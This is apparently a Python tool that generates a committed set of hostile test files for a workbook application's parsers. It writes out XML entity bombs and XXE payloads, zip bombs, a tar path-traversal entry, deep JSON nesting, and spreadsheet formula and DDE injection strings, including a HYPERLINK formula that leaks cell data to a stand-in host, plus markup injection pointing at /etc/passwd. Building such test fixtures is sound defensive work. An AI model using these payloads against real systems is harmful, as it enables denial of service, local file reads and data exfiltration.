"""Make the collection of hostile files every reader is tested against (tests/data/hostile).

    python tools/make_hostile.py [--out tests/data/hostile]

Each file is built here, byte for byte the same on every run (fixed timestamps), and
described in the folder's README. Huge files are not kept: ``sparse_file`` makes the 2 GB
one at test time (sparse, so it takes no disk space). ``tests/reliability`` checks that
the committed files are what this script makes, and feeds each one to the commands that
read its kind of file.
"""

from __future__ import annotations

import argparse
import gzip
import io
import json
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

FOLDER = Path(__file__).resolve().parents[1] / "tests" / "data" / "hostile"
SECRET = "PATIENT-SECRET-7f3a"  # in secret.txt: must never show up in a database or output
ZIP_TIME = (2024, 1, 1, 0, 0, 0)
TWO_GB = 2 * 1024**3


def _xml(doctype: str, body: str) -> bytes:
    return f'<?xml version="1.0"?>\n{doctype}\n{body}\n'.encode()


def billion_laughs() -> bytes:
    entities = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">\n' for i in range(1, 10))
    return _xml(f'<!DOCTYPE lolz [\n<!ENTITY lol0 "lol">\n{entities}]>', "<lolz>&lol9;</lolz>")


def quadratic_blowup() -> bytes:
    return _xml(f'<!DOCTYPE r [<!ENTITY a "{"a" * 20_000}">]>', f"<r>{'&a;' * 10_000}</r>")


def external_entity_local_file() -> bytes:
    return _xml('<!DOCTYPE r [<!ENTITY x SYSTEM "secret.txt">]>', "<r>&x;</r>")


def external_entity_url() -> bytes:
    return _xml('<!DOCTYPE r [<!ENTITY x SYSTEM "http://example.invalid/x">]>', "<r>&x;</r>")


def external_dtd() -> bytes:
    return _xml('<!DOCTYPE r SYSTEM "http://example.invalid/r.dtd">', "<r/>")


def parameter_entity() -> bytes:
    return _xml('<!DOCTYPE r [<!ENTITY % p SYSTEM "secret.txt"> %p;]>', "<r/>")


def plain_dtd() -> bytes:
    return _xml("<!DOCTYPE r [<!ELEMENT r (#PCDATA)>]>", "<r>x</r>")


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name, ZIP_TIME), data, zipfile.ZIP_DEFLATED, 9)
    return out.getvalue()


def zip_bomb_xlsx() -> bytes:
    """An .xlsx whose 20 KB sheet unpacks to 20 MB of zeros (compressed 1,000 times)."""
    return _zip({"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": bytes(20 << 20)})


def overlapping_zip_bomb_xlsx(copies: int = 250) -> bytes:
    """An .xlsx listing the same 20 KB of packed zeros as ``copies`` sheets of 20 MB each
    (5 GB in all): the zip's central directory points every entry at one compressed part."""
    data = zip_bomb_xlsx()
    end = data.rindex(b"PK\x05\x06")
    entries, size, start = struct.unpack("<HII", data[end + 10 : end + 20])
    directory = data[start : start + size]
    records, at = [], 0
    for _ in range(entries):
        name_len, extra_len, comment_len = struct.unpack("<HHH", directory[at + 28 : at + 34])
        records.append(directory[at : at + 46 + name_len + extra_len + comment_len])
        at += len(records[-1])
    sheet = records[-1]
    for i in range(2, copies + 1):
        name = f"xl/worksheets/sheet{i}.xml".encode()
        records.append(sheet[:28] + struct.pack("<H", len(name)) + sheet[30:46] + name)
    directory = b"".join(records)
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(records), len(records),
                       len(directory), start, 0)  # fmt: skip
    return data[:start] + directory + tail


def _tgz(entries: dict[str, bytes]) -> bytes:
    tar_bytes = io.BytesIO()
    with tarfile.open(fileobj=tar_bytes, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in entries.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 0
            tar.addfile(info, io.BytesIO(data))
    return gzip.compress(tar_bytes.getvalue(), mtime=0)


def _definition(name: str) -> bytes:
    return json.dumps(
        {
            "resourceType": "StructureDefinition",
            "url": f"https://example.org/fhir/StructureDefinition/{name}",
            "name": name,
            "fhirVersion": "4.0.1",
            "kind": "resource",
            "type": "Patient",
            "baseDefinition": "http://hl7.org/fhir/StructureDefinition/Patient",
            "derivation": "constraint",
            "differential": {"element": [{"id": "Patient", "path": "Patient"}]},
        }
    ).encode()


def package_path_traversal() -> bytes:
    """A FHIR package with an entry that would be written outside the folder it unpacks to."""
    return _tgz(
        {
            "package/package.json": b'{"name": "evil", "version": "1.0.0"}',
            "package/StructureDefinition-Fine.json": _definition("Fine"),
            "package/../../../../tmp/workbook-hostile.json": _definition("Escaped"),
        }
    )


def _engagement(title: str, **body: Any) -> bytes:
    document = {"format": "engagement-workbook", "format_version": 1}
    document["engagement"] = {"title": title, **body}
    return json.dumps(document, ensure_ascii=False, indent=1).encode()


def invalid_utf8_engagement() -> bytes:
    return _engagement("Café").replace("Café".encode(), b"Caf\xe9 \xff\xfe")


def invalid_utf8_csv() -> bytes:
    return b"Actor,Requirement\nPharmacist,to see the caf\xe9 list\n"


def invalid_utf8_xml() -> bytes:
    return b'<?xml version="1.0" encoding="UTF-8"?>\n<Patient><Name>Caf\xe9</Name></Patient>\n'


def invalid_utf8_definition() -> bytes:
    return _definition("Invalid").replace(b'"Invalid"', b'"Caf\xe9"')


def nested_json() -> bytes:
    """An engagement file whose body is 100,000 arrays, one inside the other."""
    depth = 100_000
    return _engagement("x").replace(b'"x"', b"[" * depth + b"]" * depth, 1)


# text that a spreadsheet would run as a formula (command execution, links out, DDE)
FORMULAS = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+44 1234 567890",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
)


def formula_strings() -> bytes:
    return _engagement(
        FORMULAS[0],
        client={"name": FORMULAS[2], "organisation_code": "=RX9"},
        analyst=FORMULAS[4],
        stages={"client_context": {"status": "done", "text": "\n".join(FORMULAS)}},
        actors=[{"id": "a1", "name": FORMULAS[1], "care_setting": FORMULAS[3]}],
        features=[{"id": "f1", "name": FORMULAS[5]}],
        user_stories=[
            {
                "id": "s1",
                "ref": "=US-1",
                "feature": "f1",
                "actor": "a1",
                "secondary_actor": "a1",
                "requirement": FORMULAS[0],
                "justification": FORMULAS[1],
                "acceptance_criteria": [{"text": text, "kind": "clinical"} for text in FORMULAS],
            }
        ],
        data_items=[
            {"id": f"d{i}", "name": text, "description": text, "example": text, "notes": text}
            for i, text in enumerate(FORMULAS)
        ],
        api_signatures=[
            {"id": "api1", "method": "GET", "path": FORMULAS[4], "result": FORMULAS[0]}
        ],
    )


# reportlab paragraph markup (and SVG) that would fetch a file, blow up a font or break out
MARKUP = (
    '<img src="secret.txt" width="400" height="400"/>',
    '<font size="400" color="red">HUGE</font>',
    '<a href="file:///etc/passwd">passwd</a>',
    '<onDraw name="evil" label="x"/>',
    '<seq id="s"/><seqreset id="s"/>',
    "<para><b><i>never closed",
    "</para></font></b>",
    "&nbsp; &bogus; &#0; &#xD800; &",
    "<![CDATA[x]]> <br/><br/>",
    '</text><script>alert("svg")</script><text>',
)


def reportlab_markup() -> bytes:
    return _engagement(
        MARKUP[1],
        client={"name": MARKUP[0], "organisation_code": "<b>"},
        analyst=MARKUP[2],
        stages={
            "client_context": {"status": "done", "text": "\n\n".join(MARKUP)},
            "problem_statement": {
                "status": "done",
                "text": MARKUP[3],
                "diagram": {
                    "nodes": [
                        {"id": f"n{i}", "label": text, "kind": "system"}
                        for i, text in enumerate(MARKUP)
                    ],
                    "edges": [{"from": "n0", "to": "n9", "label": MARKUP[9], "kind": "flow"}],
                },
            },
        },
        actors=[{"id": "a1", "name": MARKUP[4], "care_setting": MARKUP[5]}],
        features=[{"id": "f1", "name": MARKUP[6]}],
        user_stories=[
            {
                "id": "s1",
                "ref": "<b>US-1",
                "feature": "f1",
                "actor": "a1",
                "requirement": MARKUP[0],
                "justification": MARKUP[7],
                "acceptance_criteria": [{"text": text, "kind": "clinical"} for text in MARKUP],
            }
        ],
        data_items=[
            {"id": f"d{i}", "name": text, "description": text, "example": text}
            for i, text in enumerate(MARKUP)
        ],
        lessons=[{"kind": "success", "text": MARKUP[8], "action": MARKUP[1]}],
    )


# file name: (how it is made, what it is)
FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "billion-laughs.xml": (billion_laughs, "nested entities that expand to 3 GB of 'lol'"),
    "quadratic-blowup.xml": (
        quadratic_blowup,
        "one 20 KB entity used 10,000 times: 200 MB once expanded",
    ),
    "external-entity-local-file.xml": (
        external_entity_local_file,
        "an entity that would read secret.txt into the document",
    ),
    "external-entity-url.xml": (external_entity_url, "an entity that would fetch a URL"),
    "external-dtd.xml": (external_dtd, "a DOCTYPE that would fetch its DTD from the web"),
    "parameter-entity.xml": (parameter_entity, "a parameter entity that would read secret.txt"),
    "plain-dtd.xml": (plain_dtd, "a harmless internal DTD: refused like any DTD"),
    "zip-bomb.xlsx": (zip_bomb_xlsx, "a workbook whose 20 KB sheet unpacks to 20 MB of zeros"),
    "zip-bomb-overlapping.xlsx": (
        overlapping_zip_bomb_xlsx,
        "a workbook listing one 20 KB packed sheet 250 times: 5 GB unpacked",
    ),
    "package-path-traversal.tgz": (
        package_path_traversal,
        "a FHIR package with an entry named package/../../../../tmp/workbook-hostile.json",
    ),
    "invalid-utf8.engagement.json": (invalid_utf8_engagement, "Latin-1 bytes in a UTF-8 file"),
    "invalid-utf8.csv": (invalid_utf8_csv, "a story catalogue CSV saved as Latin-1"),
    "invalid-utf8.xml": (invalid_utf8_xml, "an XML sample declaring UTF-8, holding Latin-1"),
    "invalid-utf8-definition.json": (
        invalid_utf8_definition,
        "a StructureDefinition with Latin-1 bytes",
    ),
    "nested-100000.engagement.json": (nested_json, "JSON arrays nested 100,000 deep"),
    "formula-strings.engagement.json": (
        formula_strings,
        "a valid engagement whose text starts with =, +, -, @, tab or CR",
    ),
    "reportlab-markup.engagement.json": (
        reportlab_markup,
        "a valid engagement whose text is reportlab and SVG markup (img, font, a, onDraw...)",
    ),
    "secret.txt": (lambda: f"{SECRET}\n".encode(), "what the entities try to read"),
}


def sparse_file(path: Path, size: int = TWO_GB) -> Path:
    """A file of ``size`` bytes that takes no disk space (made at test time, never kept)."""
    with path.open("wb") as f:
        f.truncate(size)
    return path


def readme() -> bytes:
    lines = [
        "# Hostile files",
        "",
        "Made by `python tools/make_hostile.py` (do not edit by hand) and fed to every command",
        "that reads their kind of file (the XML ones to the XML sample, XSD, BPMN and profile",
        "importers) by `tests/reliability/test_hostile_files.py`, which also makes a 2 GB",
        "sparse file at test time.",
        "",
        "| file | what it is |",
        "|------|------------|",
        *(f"| `{name}` | {what} |" for name, (_make, what) in FILES.items()),
        "",
    ]
    return "\n".join(lines).encode()


def make(folder: Path = FOLDER) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for name, (build, _what) in {**FILES, "README.md": (readme, "")}.items():
        path = folder / name
        path.write_bytes(build())
        written.append(path)
    return written


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=FOLDER)
    args = parser.parse_args()
    for path in make(args.out):
        print(f"{path.stat().st_size:>9,}  {path}")


if __name__ == "__main__":
    main()
